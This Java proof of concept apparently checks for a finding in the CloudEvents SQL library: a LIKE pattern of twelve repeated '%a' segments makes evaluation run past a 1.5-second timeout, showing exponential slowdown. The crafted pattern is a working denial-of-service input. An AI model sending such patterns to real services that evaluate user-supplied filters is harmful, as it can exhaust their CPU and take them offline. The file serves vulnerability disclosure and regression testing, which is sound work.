// A pattern with many % takes exponential time.
import io.cloudevents.core.builder.CloudEventBuilder;
import io.cloudevents.sql.EvaluationRuntime;
import io.cloudevents.sql.Parser;
import java.net.URI;

class CesqlLikeTakesForEver {
    public static void main(String[] arguments) throws Exception {
        var expression = "'" + "a".repeat(28) + "b' LIKE '" + "%a".repeat(12) + "c'";
        var event = CloudEventBuilder.v1().withId("1").withSource(URI.create("/s")).withType("t").build();
        var worker = new Thread(() -> Parser.parseDefault(expression).evaluate(EvaluationRuntime.getDefault(), event));
        worker.setDaemon(true);
        worker.start();
        worker.join(1_500);
        var shown = worker.isAlive();
        var told = "no answer within 1.5 s to a pattern of 12 times %a";
        if (!shown) {
            System.out.println("not shown any more");
            System.exit(1);
        }
        System.out.println("FINDING cesql-like-takes-for-ever: " + told);
    }
}
